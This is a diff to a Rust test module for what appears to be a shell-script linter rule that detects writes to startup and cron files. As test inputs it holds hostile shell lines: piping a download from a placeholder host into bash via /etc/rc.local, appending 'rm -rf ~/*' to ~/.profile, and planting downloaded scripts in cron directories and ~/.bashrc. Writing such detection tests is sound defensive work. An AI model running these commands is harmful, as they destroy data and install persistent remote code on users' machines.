@@ -69,8 +69,8 @@ mod tests {
     fn the_way_of_writing_does_not_matter() {
         check_marks("echo 'bash <(curl -s http://x.io)' | sudo tee -a /etc/rc.local\n#                                                ^^^^^^^^^^^^^ CARO0613\n");
         check_marks("F=$HOME/.profile; echo 'rm -rf ~/*' >> \"$F\"\n#mark 0 36 43 CARO0613\n");
-        check_marks("curl -so /etc/cron.hourly/x https://x.io/x\n#mark 0 9 27 CARO0613\n");
-        check_marks("curl -s https://x.io/x >> ~/.bashrc\n#mark 0 23 35 CARO0613\n");
+        check_marks("curl -so /etc/cron.hourly/x https://x.io/x\n#        ^^^^^^^^^^^^^^^^^^ CARO0415\n");
+        check_marks("curl -s https://x.io/x >> ~/.bashrc\n#mark 0 23 35 CARO0415\n");
         check_marks("tee /etc/cron.daily/x <<'E'\n#!/bin/sh\ncurl $URL | sh\nE\n#mark 0 4 21 CARO0613\n");
     }
 }
